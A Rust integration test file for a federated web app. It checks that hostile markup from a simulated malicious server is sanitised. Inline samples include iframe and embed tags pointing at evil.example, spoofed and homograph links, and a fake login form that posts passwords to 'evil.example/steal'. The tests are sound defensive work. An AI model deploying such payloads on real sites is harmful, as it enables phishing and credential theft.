//! HTML of other servers: in every field that they can fill, on every page that shows it.

use std::collections::{BTreeSet, VecDeque};

use allmende_domain::permission::Viewer;
use allmende_tests::app::PASSWORD;
use allmende_tests::browser::{Shown, pages};
use allmende_tests::page::{dangers, tags};
use allmende_tests::{Browser, PeerActor};
use allmende_web::Who;
use http::{StatusCode, header};
use serde_json::{Value, json};

use super::siege::Siege;
use crate::tidy::tree;

/// More than all pages of the test.
const PAGES_MAX: usize = 1_500;

/// Ways around sanitisers, as they were published over the years. The story in the browser (`tests/browser`) shows the same to a real one.
fn corpus() -> Vec<String> {
    serde_json::from_str(&tree::read("tests/it/fixtures/hostile-markup.json")).expect("a list of texts")
}

/// A listing with `text` in every field.
fn listing(actor: &PeerActor, number: u32, text: &str) -> Value {
    // A title of tags alone is none.
    let title = format!("Thing {number} {text}");
    let mut listing = actor.listing(number, &title, 0);
    listing["name"] = json!(title);
    listing["summary"] = json!(text);
    listing["content"] = json!(text);
    listing["conditions"] = json!(text);
    listing["closingNote"] = json!(text);
    listing["version"] = json!(text);
    listing["checksum"] = json!(text);
    listing["license"] = json!(text);
    listing["url"] = json!(text);
    listing["location"] = json!({
        "type": "Place", "name": text, "address": text, "openingHours": text, "accessibility": text, "latitude": 48.5, "longitude": 7.5,
    });
    listing["tag"] = json!([{"type": "Hashtag", "name": text, "href": text}]);
    listing["attachment"] = json!([
        {"type": "Link", "href": text, "name": text}, {"type": "Image", "mediaType": "image/png", "url": text, "name": text},
        {"type": "Image", "mediaType": "image/png", "url": "https://evil.example/a.png", "name": text},
    ]);
    listing["publishes"]["resourceConformsTo"] = json!(text);
    listing["publishes"]["resourceInventoriedAs"] = json!(text);
    listing["publishes"]["nameMap"] = json!({"en": title, "fr": title});
    listing["publishes"]["contentMap"] = json!({"en": text, "fr": text});
    listing["reciprocal"] =
        json!([{"type": "Intent", "action": "transfer", "name": text, "resourceQuantity": {"hasUnit": text, "hasNumericalValue": text}}]);
    listing
}

fn note(actor: &PeerActor, number: u32, text: &str) -> Value {
    let mut note = actor.note(number, "");
    note["content"] = json!(text);
    note["name"] = json!(text);
    note["summary"] = json!(text);
    note["sensitive"] = json!(number.is_multiple_of(2));
    note["url"] = json!(text);
    note["tag"] = json!([{"type": "Mention", "href": text, "name": text}]);
    note["attachment"] = json!([
        {"type": "Document", "mediaType": text, "url": text, "name": text},
        {"type": "Image", "mediaType": "image/png", "url": "https://evil.example/a.png", "name": text},
        {"type": "Document", "mediaType": "text/html", "url": "https://evil.example/embed", "name": text},
    ]);
    note
}

/// Somebody whom velo follows, with `text` in every field of theirs too.
async fn follow(siege: &Siege, actor: &PeerActor, text: &str) {
    let mut document = actor.document();
    for field in ["name", "summary", "url", "icon", "image", "attachment"] {
        document[field] = json!(text);
    }
    siege.evil.serves_object(&document);
    siege.velo.asks_to_follow(&actor.url).await;
    siege.settle().await;
    siege.evil.accepts_follow(actor, &siege.velo.instance).await;
    siege.settle().await;
}

async fn say(siege: &Siege, actor: &PeerActor, number: u32, object: Value) {
    let activity = actor.activity(number, "Create", object);
    assert_eq!(siege.evil.delivers(actor, &siege.velo.instance, &activity).await, 202);
}

/// Every text of the corpus as a listing, a post, a question and a report of one actor; in the name of another one each time in turn.
async fn flood(siege: &Siege) -> usize {
    let corpus = corpus();
    let actors: Vec<PeerActor> = (0..4).map(|number| siege.evil.actor(&format!("mallory{number}"), number)).collect();
    for (actor, text) in actors.iter().zip(&corpus) {
        follow(siege, actor, text).await;
    }
    for (number, text) in (1..).zip(&corpus) {
        let actor = &actors[number as usize % actors.len()];
        say(siege, actor, 10 * number, listing(actor, number, text)).await;
        say(siege, actor, 10 * number + 1, note(actor, 10 * number + 1, text)).await;
        let mut question = note(actor, 10 * number + 2, text);
        question["to"] = json!([siege.velo.url()]);
        question["tag"] = json!([{"type": "Mention", "href": siege.velo.url(), "name": text}]);
        say(siege, actor, 10 * number + 2, question).await;
        if number.is_multiple_of(20) {
            let flag = json!({
                "@context": "https://www.w3.org/ns/activitystreams", "id": format!("{}/flags/{number}", actor.url), "type": "Flag",
                "actor": actor.url, "object": [siege.velo.url()], "content": text,
            });
            assert_eq!(siege.evil.delivers(actor, &siege.velo.instance, &flag).await, 202);
        }
        siege.settle().await;
    }
    corpus.len()
}

/// Somebody who may see everything, before the pages.
async fn everybody(siege: &Siege) -> Browser {
    let app = &siege.velo.instance.app;
    let admin = allmende_app::members::add(
        app,
        &Viewer::Operator,
        allmende_tests::app::new_member("ada"),
        true,
        vec![(siege.velo.cooperative.id.clone(), allmende_domain::member::Role::Admin)],
    );
    admin.await.expect("a member is added");
    // What she is told of names all of them.
    while allmende_app::notifications::derive_once(app).await.expect("members are told") > 0 {}
    let mut browser = Browser::before(pages(app));
    assert!(browser.signs_in("ada", PASSWORD).await);
    browser
}

/// What a browser saves as a file instead of showing it is no page; all answers forbid it to guess (`nosniff`).
fn is_page(shown: &Shown) -> bool {
    shown.headers.get(header::CONTENT_TYPE).is_some_and(|kind| kind.as_bytes().starts_with(b"text/html"))
}

/// Every page that can be reached by links, and its path.
async fn crawl(browser: &mut Browser) -> Vec<(String, String)> {
    let mut waiting: VecDeque<String> =
        ["/", "/reading", "/home", "/coops", "/peers", "/peers/held", "/reports", "/deliveries", "/deliveries/incoming", "/running/log"]
            .map(str::to_owned)
            .into();
    let mut known: BTreeSet<String> = waiting.iter().cloned().collect();
    let mut seen = Vec::new();
    while let Some(path) = waiting.pop_front() {
        assert!(seen.len() < PAGES_MAX, "too many pages");
        let shown = browser.opens(&path).await;
        if shown.status == StatusCode::NOT_FOUND || shown.status.is_redirection() {
            continue;
        }
        assert_eq!(shown.status, StatusCode::OK, "{path}");
        if !is_page(&shown) {
            continue;
        }
        for tag in tags(&shown.body).iter().filter(|tag| tag.name == "a") {
            let Some(href) = tag.attribute("href").filter(|href| href.starts_with('/') && !href.starts_with("//")) else { continue };
            let path = href.split('#').next().unwrap_or_default().to_owned();
            let worth = !["/sign-out", "/report?", "/tags/", "/?", "/map?"].iter().any(|prefix| path.starts_with(prefix))
                || path.starts_with("/?page=");
            if worth && known.insert(path.clone()) {
                waiting.push_back(path);
            }
        }
        seen.push((path, shown.body));
    }
    seen
}

#[tokio::test]
async fn x1_no_text_of_another_server_runs_loads_or_covers_anything() {
    let siege = Siege::begin().await;
    let count = flood(&siege).await;
    let mut browser = everybody(&siege).await;
    let seen = crawl(&mut browser).await;
    // Sheets for paper are shown too, and counted apart.
    let pages = |prefix: &str| seen.iter().filter(|(path, _)| path.starts_with(prefix) && !path.ends_with("/sheet")).count();
    let (listings, inquiries) = (pages("/listings/"), pages("/inquiries/"));
    println!("{count} texts, {} pages, {listings} listings, {inquiries} inquiries", seen.len());
    assert!(
        listings * 10 >= count * 7 && inquiries > 0 && pages("/reading") > 1 && pages("/reports/") > 0,
        "{listings} of {count} are shown"
    );
    let wrong: Vec<String> =
        seen.iter().flat_map(|(path, body)| dangers(body).into_iter().map(move |why| format!("{path}: {why}"))).collect();
    tree::assert_none(&wrong, "markup of another server on our pages");
    let read =
        seen.iter().filter(|(path, _)| path.starts_with("/reading")).map(|(_, body)| body.matches("<article").count()).sum::<usize>();
    assert!(read * 10 >= count * 9, "{read} posts are shown");
}

#[tokio::test]
async fn x3_nothing_of_another_server_is_embedded_or_asked_how_to_be() {
    let siege = Siege::begin().await;
    follow(&siege, &siege.mallory, "mallory").await;
    siege.evil.forget_requests();
    let content = "<iframe src='https://evil.example/embed'></iframe><a href='https://evil.example/video'>video</a>\
                   <link rel=alternate type='application/json+oembed' href='https://evil.example/oembed?url=1'>\
                   <object data='https://evil.example/embed'></object><embed src='https://evil.example/embed'>";
    say(&siege, &siege.mallory, 1, note(&siege.mallory, 1, content)).await;
    say(&siege, &siege.mallory, 2, listing(&siege.mallory, 2, content)).await;
    siege.settle().await;
    let mut browser = everybody(&siege).await;
    let seen = crawl(&mut browser).await;
    assert!(seen.iter().any(|(path, body)| path == "/reading" && body.contains("video")), "it is shown");
    let frames = ["iframe", "frame", "object", "embed", "portal", "video", "audio", "fencedframe"];
    let embedded: Vec<String> = seen
        .iter()
        .flat_map(|(path, body)| {
            tags(body).into_iter().filter(|tag| frames.contains(&tag.name.as_str())).map(move |tag| format!("{path}: {tag:?}"))
        })
        .collect();
    tree::assert_none(&embedded, "embedded");
    let asked: Vec<String> = siege.evil.fetches().into_iter().filter(|path| path.contains("embed") || path.contains("video")).collect();
    tree::assert_none(&asked, "looked at for a preview");
    // Nor does any page of ours have a place for it.
    for source in tree::files("crates/web/templates") {
        assert!(!frames.iter().any(|frame| source.text.contains(&format!("<{frame}"))), "{}", source.path);
    }
    let policy = browser.opens("/").await.text(&header::CONTENT_SECURITY_POLICY).to_owned();
    assert!(policy.contains("default-src 'none'") && !policy.contains("frame-src") && !policy.contains("object-src"), "{policy}");
}

#[tokio::test]
async fn x4_the_real_host_stands_beside_every_link_that_names_another() {
    let siege = Siege::begin().await;
    follow(&siege, &siege.mallory, "mallory").await;
    let content = "<p><a href='https://evil.example/'>https://bank.example/</a> <a href='https://\u{430}pple.example/'>apple.example</a> \
                   <a href='https://xn--a-.example/'>fake</a> <a href='https://evil.example/'>evil.example</a></p>";
    let mut post = note(&siege.mallory, 1, content);
    post["url"] = json!("https://bank.example/1");
    say(&siege, &siege.mallory, 1, post).await;
    let mut offer = siege.mallory.listing(2, "Drill", 0);
    offer["content"] = json!(content);
    offer["conditions"] = json!(content);
    offer["publishes"]["resourceInventoriedAs"] = json!("https://bank.example/resource");
    say(&siege, &siege.mallory, 2, offer).await;
    let mut question = note(&siege.mallory, 3, content);
    question["to"] = json!([siege.velo.url()]);
    question["tag"] = json!([{"type": "Mention", "href": siege.velo.url(), "name": "@velo"}]);
    say(&siege, &siege.mallory, 3, question).await;
    siege.settle().await;
    let mut browser = everybody(&siege).await;
    let seen = crawl(&mut browser).await;
    for prefix in ["/reading", "/listings/", "/inquiries/"] {
        let (path, body) = seen.iter().find(|(path, body)| path.starts_with(prefix) && body.contains("bank.example")).expect(prefix);
        assert!(
            body.contains(">https://bank.example/</a> <span class=\"handle quiet\" dir=\"ltr\">[evil.example]</span>"),
            "{path}: {body}"
        );
        assert!(body.contains("[xn--pple-43d.example]") && !body.contains("href=\"https://xn--a-.example"), "{path}: {body}");
        assert!(!body.contains(">evil.example</a> <span"), "{path}: {body}");
    }
    let (_, reading) = seen.iter().find(|(path, _)| path == "/reading").expect("posts");
    assert!(!reading.contains("href=\"https://bank.example"), "a post leads to its own host: {reading}");
    let (_, listing) = seen.iter().find(|(path, body)| path.starts_with("/listings/") && body.contains("Drill")).expect("the listing");
    assert!(listing.contains("<span class=\"handle quiet\">https://bank.example/resource</span>"), "{listing}");
}

#[tokio::test]
async fn x2_x6_every_page_says_that_nothing_else_runs_and_forms_lead_home() {
    let siege = Siege::begin().await;
    let mut ada = everybody(&siege).await;
    let mut stranger = Browser::before(ada.router());
    for route in allmende_web::policies().iter().filter(|route| route.method == "get") {
        let path = route.path.replace("{handle}", "velo").replace("{name}", "allmende.css").replace(['{', '}'], "");
        for browser in [&mut ada, &mut stranger] {
            let shown = browser.opens(&path).await;
            let policy = shown.text(&header::CONTENT_SECURITY_POLICY).to_owned();
            let parts: BTreeSet<&str> = policy.split("; ").collect();
            for part in ["default-src 'none'", "script-src 'self'", "form-action 'self'", "base-uri 'none'", "frame-ancestors 'none'"] {
                assert!(parts.contains(part), "{path} ({}, {:?}): {policy}", shown.status, route.who);
            }
            assert!(!policy.contains("unsafe") && !policy.contains('*') && !policy.contains("data:"), "{path}: {policy}");
            assert_eq!(shown.text(&header::X_CONTENT_TYPE_OPTIONS), "nosniff", "{path}");
            if is_page(&shown) && (route.who != Who::Entrance || shown.status.is_success()) {
                let inline: Vec<String> = dangers(&shown.body);
                tree::assert_none(&inline, &path);
            }
        }
    }
}

#[tokio::test]
async fn x2_a_script_could_not_read_the_cookie_of_a_session() {
    let siege = Siege::begin().await;
    let mut ada = everybody(&siege).await;
    let shown = ada.posts("/sign-in", &[("login", "ada"), ("password", PASSWORD)]).await;
    let cookies: Vec<&str> = shown
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .filter_map(|value| value.to_str().ok())
        .filter(|cookie| cookie.contains("allmende"))
        .collect();
    assert!(!cookies.is_empty());
    for cookie in cookies {
        assert!(cookie.starts_with("__Host-") && cookie.contains("; HttpOnly") && cookie.contains("; Secure"), "{cookie}");
    }
}

#[tokio::test]
async fn x6_forms_and_fields_of_another_server_are_taken_out() {
    let siege = Siege::begin().await;
    follow(&siege, &siege.mallory, "mallory").await;
    let content = "<form action='https://evil.example/steal'><input name=login autocomplete=username><input type=password name=password>\
                   <select name=x><option>y</option></select><textarea name=z></textarea><button formaction='https://evil.example'>Go</button></form>words";
    say(&siege, &siege.mallory, 1, note(&siege.mallory, 1, content)).await;
    siege.settle().await;
    let mut ada = everybody(&siege).await;
    let body = ada.opens("/reading").await.body;
    let prose = body.split("class=\"prose\">").nth(1).and_then(|rest| rest.split("</div>").next()).expect("the post");
    assert!(prose.contains("words"), "{prose}");
    let fields = ["form", "input", "select", "option", "textarea", "button", "label", "output", "datalist", "fieldset"];
    assert!(tags(prose).iter().all(|tag| !fields.contains(&tag.name.as_str())), "{prose}");
    assert!(
        tags(&body)
            .iter()
            .filter(|tag| tag.name == "form")
            .all(|form| form.attribute("action").is_some_and(|action| action.starts_with('/')))
    );
}
